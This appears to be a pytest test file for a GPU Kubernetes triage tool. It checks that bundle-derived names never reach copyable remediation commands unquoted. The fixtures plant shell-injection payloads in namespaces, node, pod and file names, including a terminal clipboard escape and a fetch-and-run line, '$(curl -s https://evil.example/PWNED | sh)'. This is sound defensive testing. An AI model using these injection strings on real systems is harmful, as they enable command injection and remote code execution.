"""Bundle strings never reach a copyable command unquoted.

Every sample bundle is rewritten with shell metacharacters planted in every bundle string
that a remediation can put into a command: the manifest's operator namespace, every
namespace, node, pod and container name, the ClusterPolicy, ConfigMap and ResourceQuota
names, taint keys and values, the MIG config label, the Helm release name (a file name)
and its chart version, the containerd drop-in file names. The rewritten bundle is
analysed and rendered as text, Markdown, HTML and JSON; every line offered to copy must
hold the payload only as quoted data in a comment, never in a command.

The unit tests below pin the builder itself (analyzers.commands).
"""

from __future__ import annotations

import html
import json
import re
import shlex
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner
from hostile_kit import ROOT, analyze_path, valid_files
from kit.bundles import write_dir

from analyzers import commands as sh
from analyzers.results.models import Report, RuleStatus
from gpu_triage.cli import cli
from reports import render
from reports.html_findings import LINE_CAP, remediation_lines
from reports.view import first_command

SAMPLES = ROOT / "samples"
MARK = "PWNED"
# In JSON strings: every kind of shell metacharacter, quotes, a newline, an OSC 52
# clipboard escape, a comment start.
PAYLOAD = (f" $(touch /tmp/{MARK})`touch /tmp/{MARK}`;touch {MARK}|x&y<z>w'q\"\\"
           f"\n{MARK}\r\x1b]52;c;cHduZWQ=\x07 #{MARK}")
# In file names (a directory bundle cannot hold a control character or '/').
FILE_PAYLOAD = f" $(touch {MARK})`{MARK}`;{MARK}|x&y'q\" #{MARK}"
CONTROL = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u2028\u2029]")
ROLES = re.compile(r"# not offered: the (.+?) in the bundle is not")


# -- the hostile bundles ---------------------------------------------------------------


def _samples() -> list[str]:
    return sorted(p.parent.name for p in SAMPLES.glob("*/manifest.json"))


def _walk(value: Any, change: Any, key: str = "") -> Any:
    if isinstance(value, dict):
        return {k: _walk(v, change, k) for k, v in value.items()}
    if isinstance(value, list):
        return [_walk(v, change, key) for v in value]
    if isinstance(value, str):
        return change(key, value)
    return value


def _names(docs: dict[str, Any], path: str, field: str = "name") -> set[str]:
    doc = docs.get(path)
    items = doc.get("items", []) if isinstance(doc, dict) else []
    return {i["metadata"][field] for i in items if isinstance(i, dict)
            and isinstance(i.get("metadata"), dict) and isinstance(i["metadata"].get(field), str)}


def _containers(docs: dict[str, Any]) -> set[str]:
    found: set[str] = set()
    doc = docs.get("cluster/pods.json")
    for pod in doc.get("items", []) if isinstance(doc, dict) else []:
        for part in ("spec", "status"):
            for key in ("containers", "initContainers", "containerStatuses",
                        "initContainerStatuses"):
                for c in (pod.get(part) or {}).get(key) or []:
                    if isinstance(c, dict) and isinstance(c.get("name"), str):
                        found.add(c["name"])
    return found


def _hostile(sample: str, target: Path, *, nodes: bool) -> Path:
    """The sample rewritten under ``target``; ``nodes``: plant in node names too (their
    node directories, which must be Kubernetes names, then belong to no cluster node)."""
    source = SAMPLES / sample
    files = {p.relative_to(source).as_posix(): p.read_bytes()
             for p in source.rglob("*") if p.is_file()}
    docs = {path: json.loads(data) for path, data in files.items()
            if path.endswith(".json") and (path.startswith("cluster/") or path == "manifest.json")}
    exact = {name: name + PAYLOAD for name in (
        _names(docs, "cluster/pods.json") | _names(docs, "cluster/clusterpolicies.json")
        | _names(docs, "cluster/configmaps.json") | _names(docs, "cluster/resourcequotas.json")
        | (_names(docs, "cluster/nodes.json") if nodes else set()))}
    containers = _containers(docs)
    renamed: dict[str, str] = {}
    for path in files:
        head, _, base = path.rpartition("/")
        if "/containerd/files/" in path and base.endswith(".toml") and base != "config.toml":
            renamed[path] = f"{head}/{base[:-5]}{FILE_PAYLOAD}.toml"
        elif path.startswith("cluster/helm/") and path.endswith(".json"):
            renamed[path] = f"{head}/{base[:-5]}{FILE_PAYLOAD}.json"

    def change(key: str, value: str) -> str:
        if key in ("namespace", "operator_namespace"):
            return value + PAYLOAD
        if key == "name" and value in containers and value not in exact:
            return value + PAYLOAD
        if key == "chart" or key in ("nvidia.com/mig.config", "nvidia.com/device-plugin.config"):
            return value + PAYLOAD
        if key in ("key", "value") and value and "taint" not in value:
            return value + PAYLOAD  # taint keys and values (and env entries: harmless)
        if key == "path" and value in renamed:
            return renamed[value]
        return exact.get(value, value)

    for path, doc in docs.items():
        files[path] = json.dumps(_walk(doc, change)).encode()
    for old, new in renamed.items():
        files[new] = files.pop(old)
    for path, data in files.items():
        out = target / path
        out.parent.mkdir(parents=True, exist_ok=True)
        out.write_bytes(data)
    return target


def _reports(tmp: Path) -> dict[str, tuple[Report, Report]]:
    """Each sample and variant: (the original report, the report of its hostile twin)."""
    out = {}
    for sample in _samples():
        original = analyze_path(SAMPLES / sample)
        for variant, nodes in (("names", False), ("nodes", True)):
            hostile = _hostile(sample, tmp / variant / sample, nodes=nodes)
            out[f"{variant}/{sample}"] = (original, analyze_path(hostile))
    return out


@pytest.fixture(scope="module")
def reports(tmp_path_factory: pytest.TempPathFactory) -> dict[str, tuple[Report, Report]]:
    return _reports(tmp_path_factory.mktemp("hostile-commands"))


# -- what is offered to copy, per format ------------------------------------------------


def _fenced(markdown: str) -> list[list[str]]:
    blocks: list[list[str]] = []
    fence = None
    for line in markdown.splitlines():
        if fence is None:
            if re.fullmatch(r"`{3,}", line):
                fence = line
                blocks.append([])
        elif line == fence:
            fence = None
        else:
            blocks[-1].append(line)
    return blocks


def _copy_blocks(page: str) -> list[list[str]]:
    return [html.unescape(re.sub(r"<[^>]+>", "", block)).splitlines()
            for block in re.findall(r"<pre class=\"code\" data-copy>(.*?)</pre>", page, re.S)]


def _first_steps(text: str) -> list[str]:
    return [line.split("first step: ", 1)[1] for line in text.splitlines()
            if "first step: " in line]


def _offered(report: Report) -> dict[str, list[list[str]]]:
    """Per format, the blocks of lines offered to copy."""
    data = json.loads(render(report, "json"))
    return {
        "json": [f["remediation"].splitlines() for f in data["findings"]],
        "text": [[line] for line in _first_steps(render(report, "text"))],
        "md": _fenced(render(report, "md")),
        "html": _copy_blocks(render(report, "html")),
    }


def _unquoted(script: str) -> str:
    """What a POSIX shell reads outside single quotes, escaped characters dropped: where
    an expansion or a command separator would still act. Double-quoted text counts as
    unquoted (``$(...)`` and backquotes act there). Raises ValueError on an open quote."""
    out, i, double = [], 0, False
    while i < len(script):
        ch = script[i]
        if ch == "\\":
            i += 2
            continue
        if ch == '"':
            double = not double
        elif ch == "'" and not double:
            end = script.find("'", i + 1)
            if end < 0:
                raise ValueError(f"open quote: {script!r}")
            i = end + 1
            continue
        out.append(ch)
        i += 1
    if double:
        raise ValueError(f"open double quote: {script!r}")
    return "".join(out)


def _check_block(where: str, lines: list[str]) -> None:
    """One copy block: no control character; no command line holds the payload (a shell
    that skips comments); and read as one script whose comments are words too (an
    interactive zsh without ``interactivecomments``), the payload is only ever inside
    single quotes."""
    for line in lines:
        stripped = line.strip()
        assert not CONTROL.search(line), (where, line)
        if stripped and not stripped.startswith("#"):
            assert MARK not in stripped, (where, line)
    script = "\n".join(lines)
    if MARK in script:
        assert MARK not in _unquoted(script), (where, script)


# -- the hostile bundles: tests ----------------------------------------------------------


def test_hostile_bundles_still_analyse(reports: dict[str, tuple[Report, Report]]) -> None:
    for name, (_, after) in reports.items():
        errors = [(r.rule_id, r.reason) for r in after.rules if r.status is RuleStatus.ERROR]
        assert errors == [], name
        assert after.findings, name


def test_planted_names_reach_the_same_rules(reports: dict[str, tuple[Report, Report]]) -> None:
    """The payload reached the rules: with names planted (node names kept), every rule
    that fired on a sample fires on its hostile twin, less only OP008, OP012, OP013,
    OP014, OP015, CMP020 and KI001, whose evidence is an operand's log (the device plugin's,
    the driver container's, the DCGM exporter's, the MIG manager's: a log path holds the
    namespace, which no longer matches). An RT009 on a node whose toolkit is told to edit the
    generated file may become that node's RT008: the payload appended to every env value
    makes CONTAINERD_CONFIG another file."""
    for name, (before, after) in reports.items():
        if not name.startswith("names/"):
            continue
        lost = {f.rule_id for f in before.findings} - {f.rule_id for f in after.findings}
        after_ids = {f.id for f in after.findings}
        moved = [f.id for f in before.findings if f.rule_id == "RT009" and f.id not in after_ids]
        if moved and all("RT008" + fid[len("RT009"):] in after_ids for fid in moved):
            lost.discard("RT009")
        assert lost <= {"OP008", "OP012", "OP013", "OP014", "OP015", "CMP020", "KI001"}, \
            (name, lost)


def test_no_payload_in_any_offered_command(reports: dict[str, tuple[Report, Report]]) -> None:
    refused_roles: set[str] = set()
    for name, (_, after) in reports.items():
        for fmt, blocks in _offered(after).items():
            for lines in blocks:
                _check_block(f"{name} {fmt}", lines)
                refused_roles.update(ROLES.findall("\n".join(lines)))
    # Every role was planted, refused and shown as data somewhere in the corpus.
    assert refused_roles == {
        "namespace", "node name", "pod name", "container name", "Helm release name",
        "version", "file path", "ConfigMap name", "ResourceQuota name", "label value",
        "taint key", "taint value",
    }, refused_roles


def test_refusal_shows_the_value_as_one_inert_line(
        reports: dict[str, tuple[Report, Report]]) -> None:
    """The JSON remediation of a finding over a hostile namespace: the commands that need
    it are not offered, one comment per refused value says why and shows it escaped."""
    _, after = reports["names/helm-dropped-values"]
    helm = next(f for f in after.findings if f.rule_id == "HELM001")
    assert helm.remediation.splitlines() == [
        "# not offered: the namespace in the bundle is not a valid Kubernetes name: "
        "'gpu-operator $(touch /tmp/PWNED)`touch /tmp/PWNED`;touch PWNED|x&y<z>w'\"'\"'q\"\\\\"
        "\\nPWNED...', 104 characters in all",
        "# not offered: the Helm release name in the bundle is not a valid Helm release name: "
        "'gpu-operator $(touch PWNED)`PWNED`;PWNED|x&y'\"'\"'q\" #PWNED'",
        "# put the lost values back, keeping everything else",
    ]
    # Past the cap, the rest of the value is left out; before it, controls are escaped.
    assert sh.shown("a\n\x1b]52;c;x\x07\u202e") == "'a\\n\\x1b]52;c;x\\x07\\u202e'"


def test_the_issue_case_manifest_operator_namespace(tmp_path: Path) -> None:
    """The reported case: only manifest.json's operator_namespace is hostile: the findings whose
    commands name it refuse it, and nothing offered to copy holds it unquoted."""
    hostile = f"gpu-operator $(curl -s https://evil.example/{MARK} | sh)"
    report = analyze_path(write_dir(tmp_path / "b", valid_files(), operator_namespace=hostile))
    assert [r.rule_id for r in report.rules if r.status is RuleStatus.ERROR] == []
    refusal = ("# not offered: the namespace in the bundle is not a valid Kubernetes name: "
               f"'gpu-operator $(curl -s https://evil.example/{MARK} | sh)'")
    refused = sorted(f.id for f in report.findings if refusal in f.remediation.splitlines())
    assert refused == [f"CFG001:{hostile}/gpu-operator", "OP006:cluster-policy"]
    for fmt, blocks in _offered(report).items():
        for lines in blocks:
            _check_block(fmt, lines)


def test_cli_exit_code_on_a_hostile_bundle(tmp_path: Path) -> None:
    bundle = _hostile("incident-toolkit-disabled", tmp_path / "b", nodes=True)
    result = CliRunner().invoke(cli, ["analyze", str(bundle)], catch_exceptions=False)
    assert result.exit_code == 1, result.output  # findings at or above the threshold
    assert MARK not in "".join(_unquoted(line) for line in _first_steps(result.output))


# -- the builder ----------------------------------------------------------------------------


@pytest.mark.parametrize(("check", "value"), [
    (sh.namespace, "gpu-operator"), (sh.node, "gpu-a.example.com"), (sh.pod, "x-1.y"),
    (sh.container, "nvidia-driver-ctr"), (sh.release, "gpu-operator"),
    (sh.label_key, "nvidia.com/gpu.deploy.device-plugin"), (sh.label_value, "all-1g.10gb"),
    (sh.label_value, ""), (sh.resource, "nvidia.com/mig-3g.20gb"), (sh.version, "v24.9.0"),
    (sh.pci, "00000000:3B:00.0"), (sh.pci, "0000:3b:00"), (sh.path, "/etc/containerd/conf.d"),
    (sh.values_key, "driver.enabled"), (sh.values_value, "nvcr.io/nvidia"),
])
def test_valid_values_pass_unchanged_and_unquoted(check: Any, value: str) -> None:
    checked = check(value)
    assert checked.ok and checked.text == value
    assert sh.cmd("echo", checked) == ("echo " + value if value else "echo ''")


@pytest.mark.parametrize(("check", "value"), [
    (sh.namespace, "Gpu-Operator"), (sh.namespace, "a" * 64), (sh.namespace, "a.b"),
    (sh.node, "gpu-a;id"), (sh.node, "gpu-a\n"), (sh.node, "-gpu"), (sh.node, "a" * 254),
    (sh.pod, "$(id)"), (sh.container, "c d"), (sh.release, "r" * 54), (sh.release, "R"),
    (sh.label_key, "a/b/c"), (sh.label_key, "nvidia.com/"), (sh.label_value, "-x"),
    (sh.label_value, "a" * 64), (sh.version, "1.0;id"), (sh.pci, "3b:00.0 x"),
    (sh.path, "-rf"), (sh.path, "/a\nb"), (sh.path, "/a$(id)"), (sh.path, "/a  b"),
    (sh.values_key, "a..b"), (sh.values_value, "a,b=c"), (sh.values_value, {"a": 1}),
])
def test_invalid_values_are_refused(check: Any, value: Any) -> None:
    line = sh.cmd("kubectl", "get", "node", check(value))
    assert line.startswith("# not offered: the ") and " in the bundle is not " in line
    assert len(line.splitlines()) == 1 and not CONTROL.search(line)
    assert MARK not in _unquoted(line)


def test_paths_with_spaces_are_quoted() -> None:
    assert sh.cmd("ls", "-l", sh.path("/etc/containerd/conf d/99 nvidia.toml")) == \
        "ls -l '/etc/containerd/conf d/99 nvidia.toml'"
    assert sh.cmd("ls", sh.join(sh.path("/etc/a b"), "/")) == "ls '/etc/a b/'"


def test_static_words_raw_text_and_tail() -> None:
    line = sh.cmd("kubectl", "-n", sh.namespace("ops"), "logs", sh.pod("p-1"), "-c",
                  sh.container("c"), "--tail=50", "--field-selector",
                  sh.join("spec.nodeName=", sh.node("gpu-a")), sh.raw("-o jsonpath='{.a}'"),
                  tail="   # newest")
    assert line == ("kubectl -n ops logs p-1 -c c --tail=50 --field-selector "
                    "spec.nodeName=gpu-a -o jsonpath='{.a}'   # newest")
    assert sh.cmd("kubectl", "cordon", sh.node("n"), sh.raw(";"), "kubectl", "drain",
                  sh.node("n")) == "kubectl cordon n; kubectl drain n"
    # A plain string argument is quoted too: an unchecked value cannot act.
    assert sh.cmd("echo", f"a $(touch {MARK})") == f"echo 'a $(touch {MARK})'"
    with pytest.raises(ValueError):
        sh.raw("a\nb")  # type: ignore[arg-type]


def test_notes_quote_values_and_refuse_like_commands() -> None:
    assert sh.note("# on {node}:", node=sh.node("gpu-a")) == "# on gpu-a:"
    refused = sh.note("# on {node}:", node=sh.node("gpu-a\n$(id)"))
    assert refused == "# not offered: the node name in the bundle is not a valid Kubernetes " \
                      "name: 'gpu-a\\n$(id)'"
    assert sh.note("# why: {why}", why=sh.text("bad 'x' $(id)\x1b[2J")) == \
        "# why: 'bad '\"'\"'x'\"'\"' $(id)\\x1b[2J'"
    long = sh.note("# {v}", v=sh.text("é" * 200))
    assert long.endswith("...', 200 characters in all") and "\\xe9" in long
    with pytest.raises(ValueError):
        sh.note("no hash")


def test_lines_drop_repeated_refusals_and_balance_comments() -> None:
    bad = sh.namespace("x y")
    text = sh.lines(sh.cmd("helm", "-n", bad, "list"), "# the chart's values",
                    sh.cmd("kubectl", "-n", bad, "get", "pods"))
    assert text.splitlines() == [bad.refusal(), "# the chart\u2019s values"]
    # Without data to protect, static text stays as written.
    assert sh.lines("# the chart's values", "helm list") == "# the chart's values\nhelm list"


def test_commented_file_content_is_inert() -> None:
    content = ('[plugins."io.containerd.grpc.v1.cri"]\n'
               f'  BinaryName = "/usr/bin/$(touch {MARK})"\n  x = 1 > /etc/passwd\n')
    lines = sh.commented(content)
    assert lines[0] == '#   [plugins."io.containerd.grpc.v1.cri"]'
    for line in lines:
        shlex.split(line)
        assert ">" not in _unquoted(line) and MARK not in _unquoted(line)


def test_reports_never_cut_a_copyable_line() -> None:
    """A cut line would leave a quote open for the lines pasted after it."""
    long = "kubectl get pods -n " + "'" + "a" * (LINE_CAP * 2) + "'"
    shown = remediation_lines(f"# look\n{long}\nkubectl get nodes")
    assert [(line.text, line.comment) for line in shown] == [
        ("# look", True),
        (f"# a line of {len(long):,} characters is left out here; the JSON report has it",
         True),
        ("kubectl get nodes", False),
    ]
    # The first step is a whole command whose quotes close on its own line.
    assert first_command("# note\necho 'open\nkubectl get nodes") == "kubectl get nodes"
    assert first_command("ls -l /etc/a\\\nkubectl get nodes") == "kubectl get nodes"
